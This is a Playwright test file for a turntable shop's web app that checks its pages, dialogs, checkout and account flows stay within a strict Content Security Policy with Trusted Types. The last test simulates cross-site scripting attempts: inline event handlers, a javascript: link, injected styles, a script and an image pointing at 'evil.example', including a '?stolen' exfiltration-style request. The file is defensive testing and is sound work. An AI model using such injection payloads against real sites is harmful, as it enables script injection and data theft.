import type { BrowserContext, Page } from '@playwright/test';
import { LEADS, MIX } from '../support/cart-screen';
import { goToReview, orderButton, putIntoCart } from '../support/checkout';
import { placeOrder, signUp } from '../support/customer';
import { choose, regionButton } from '../support/region-dialog';
import { comeToLife, renderedPage } from '../support/rendered';
import { expect, test } from '../support/shop';

const PHONE = { width: 390, height: 844 };
const DECK = '/product/technics-sl-1210mk2-refurbished';
const PUBLIC = [
  '/',
  '/shop',
  '/shop/turntables',
  '/shop/turntables?filters=mk2&from=500',
  '/shop?search=stylus',
  DECK,
  MIX.path,
  '/tonearm-check',
  '/rental',
  '/contact',
  '/withdrawal',
  '/service',
  '/service/prices',
  '/service/request',
  '/nowhere',
];
const PERSONAL = [
  '/cart',
  '/checkout',
  '/order-confirmation',
  '/login',
  '/register',
  '/forgot-password',
  '/reset-password',
  '/confirm-email',
  '/orders/lookup',
  '/service/estimate',
  '/service/status',
  '/wishlist',
  '/compare',
  '/handover',
];
const dialog = (page: Page) => page.getByRole('dialog');

/** What browsers of this context were kept from doing; the console's own sentences about it fail a test anyway. */
async function violationsIn(context: BrowserContext): Promise<readonly string[]> {
  const found: string[] = [];
  await context.exposeBinding('tellViolation', (_, words: string) => void found.push(words));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      Reflect.get(window, 'tellViolation')(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sample}`),
    );
  });
  return found;
}

async function visit(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  await comeToLife(page);
}

async function close(page: Page): Promise<void> {
  await expect(dialog(page)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog(page)).toHaveCount(0);
}

for (const locale of ['en', 'de'])
  test(`every page comes to life within its policy, its worker among them (${locale})`, async ({ browser, baseURL, consoleGuard: _ }) => {
    const context = await browser.newContext({ ...(baseURL && { baseURL }), serviceWorkers: 'allow' });
    await context.addCookies([{ name: 'rille_locale', value: locale, url: baseURL ?? '' }]);
    const violations = await violationsIn(context);
    const page = await context.newPage();
    for (const path of [...PUBLIC, ...PERSONAL]) await test.step(path, () => visit(page, path));
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    // From now on pages are those that the worker keeps, with the policy they were kept with.
    for (const path of ['/', DECK, '/cart', '/account/overview']) await test.step(`${path}, kept`, () => visit(page, path));
    expect(violations).toEqual([]);
    await context.close();
  });

test('what opens over a page, and what is chosen on it, stays within its policy', async ({ page, context }) => {
  const violations = await violationsIn(context);
  await visit(page, '/');
  await page.getByRole('button', { name: 'Stop the running text' }).click();
  const colours = page.getByRole('combobox', { name: 'Colours' });
  await colours.selectOption('dark');
  await colours.selectOption('light');
  await page.getByRole('contentinfo').getByRole('button', { name: 'About this app' }).click();
  await close(page);
  await regionButton(page).click();
  await close(page);
  const search = page.getByRole('combobox', { name: 'Search the shop' });
  await search.fill('mk2');
  await expect(page.getByRole('listbox', { name: 'Suggestions' }).getByRole('option').first()).toBeVisible();
  await search.press('Enter');
  await expect(page).toHaveURL(/search=mk2/);

  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Turntables' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Turntables' })).toBeVisible();
  const filters = page.getByRole('complementary', { name: 'Filters' });
  await filters.getByRole('checkbox', { name: /^MK2/ }).check();
  await filters.getByRole('slider').first().press('PageUp');
  await expect(page).toHaveURL(/from=/);
  await page.getByRole('combobox', { name: 'Sort by' }).selectOption('Name');
  await page.getByRole('article').first().getByRole('link').first().click();
  await expect(page).toHaveURL(/\/product\//);

  await visit(page, DECK);
  await page.getByRole('button', { name: 'Grade legend' }).click();
  await close(page);
  await page.getByRole('main').getByRole('radio').last().check();
  await page.getByRole('main').getByRole('button', { name: 'Add to cart' }).first().click();
  await expect(page.getByRole('button', { name: 'Open cart' })).toBeVisible();
  await page
    .getByRole('banner')
    .getByRole('button', { name: /^(In sync|Sending)/ })
    .click();
  await close(page);
  await page.getByRole('button', { name: /^Cart, / }).click();
  await close(page);
  await choose(page, { country: 'at', language: 'de' });
  await page.getByRole('button', { name: 'Change to Austria' }).click();
  await expect(page.locator('html')).toHaveAttribute('lang', 'de');
  expect(violations).toEqual([]);
});

test('a phone’s drawers stay within the policy', async ({ page, context }) => {
  const violations = await violationsIn(context);
  await page.setViewportSize(PHONE);
  await visit(page, '/shop/turntables');
  await page.getByRole('button', { name: /Filters/ }).click();
  await dialog(page).getByRole('checkbox').first().check();
  await dialog(page)
    .getByRole('button', { name: /^Show \d+ products?$/ })
    .click();
  await page.getByRole('navigation', { name: 'Shortcuts' }).getByRole('button', { name: 'Search' }).click();
  await expect(page.getByRole('combobox', { name: 'Search the shop' })).toBeFocused();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await visit(page, DECK);
  await page.getByRole('main').getByRole('button', { name: 'Add to cart' }).first().click();
  await expect(page.getByRole('button', { name: 'Open cart' })).toBeVisible();
  expect(violations).toEqual([]);
});

test('buying and the account stay within the policy', async ({ page, context }) => {
  const violations = await violationsIn(context);
  await putIntoCart(page, LEADS.path);
  await goToReview(page);
  await page.getByRole('checkbox', { name: /terms/ }).check();
  await orderButton(page).click();
  await expect(page).toHaveURL(/\/order-confirmation/);
  const person = await signUp(page);
  const id = await placeOrder(page.request, person);
  for (const path of ['/account/overview', '/account/orders', '/account/order/order_unknown', `/account/order/${id}`])
    await visit(page, path);
  // Made of Mantine's timeline, whose provider would write styles.
  await expect(page.getByRole('list', { name: 'Progress of this order' })).toBeVisible();
  await page.getByRole('button', { name: 'Log out' }).click();
  await expect(page).toHaveURL(/\/$/);
  expect(violations).toEqual([]);
});

test('no page carries a style on an element, and its policy names its own parts and no others', { tag: '@gate' }, async ({ request }) => {
  for (const path of PUBLIC) {
    const { html } = await renderedPage(request, path);
    expect([path, /<[^>]*\sstyle=/.exec(html)?.[0]]).toEqual([path, undefined]);
  }
  for (const path of [...PUBLIC, ...PERSONAL, '/shell.html', '/sw.js', '/favicon.svg']) {
    const policy = (await request.get(path, { headers: { accept: 'text/html,*/*' } })).headers()['content-security-policy'];
    expect([path, /unsafe|\*|https?:|'strict-dynamic'/.exec(policy ?? 'none at all')]).toEqual([path, null]);
    expect(policy).toContain("require-trusted-types-for 'script'");
  }
});

test('X01: what somebody has smuggled into a page can neither act nor change its looks, and the browser reports each try', async ({
  page,
  consoleGuard,
}) => {
  consoleGuard.allow(/Content Security [Pp]olicy|Trusted(?:HTML|Script|ScriptURL)' assignment/);
  await visit(page, '/');
  const { done, reported } = await page.evaluate(async () => {
    const found: string[] = [];
    const reports = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => reports.add(effectiveDirective));
    Object.assign(window, { caught: () => found.push('a handler ran') });
    const attempt = (what: string, work: () => unknown) => {
      try {
        work();
        found.push(what);
      } catch {
        // As it should.
      }
    };
    attempt('innerHTML took a string', () => {
      document.createElement('div').innerHTML = '<img src="/none.png" onerror="caught()">';
    });
    attempt('insertAdjacentHTML took a string', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
    attempt('document.write took a string', () => document.write('<b>x</b>'));
    attempt('a document was made of a string', () => new DOMParser().parseFromString('<b>x</b>', 'text/html'));
    attempt('a script was named by a string', () => {
      document.createElement('script').src = 'https://evil.example/a.js';
    });
    attempt('a second policy was made', () =>
      (Reflect.get(window, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }).createPolicy('evil', {}),
    );

    const box = document.createElement('p');
    box.textContent = 'x';
    box.setAttribute('style', 'color: rgb(1, 2, 3)');
    attempt('an attribute took a handler', () => box.setAttribute('onclick', 'caught()'));
    document.body.append(box);
    const way = document.createElement('a');
    way.setAttribute('href', 'javascript:caught()');
    document.body.append(way);
    way.click();
    const style = document.createElement('style');
    style.textContent = 'p { outline: 7px solid red !important }';
    document.head.append(style);
    const link = document.createElement('link');
    Object.assign(link, { rel: 'stylesheet', href: 'data:text/css,p{outline:8px solid red}' });
    document.head.append(link);
    const far = document.createElement('img');
    const isKept = new Promise<boolean>((tell) => {
      far.onerror = () => tell(true);
      far.onload = () => tell(false);
    });
    far.src = 'https://evil.example/?stolen';
    if (!(await isKept)) found.push('a picture of another site was loaded');
    await new Promise((next) => requestAnimationFrame(next));
    const { color, outlineWidth, outlineStyle } = getComputedStyle(box);
    if (color === 'rgb(1, 2, 3)') found.push('a style attribute counted');
    if (outlineStyle !== 'none') found.push(`a style element counted: ${outlineWidth}`);
    return { done: found, reported: [...reports].sort() };
  });
  expect(done).toEqual([]);
  expect(reported).toEqual(['img-src', 'require-trusted-types-for', 'style-src-attr', 'style-src-elem', 'trusted-types']);
});
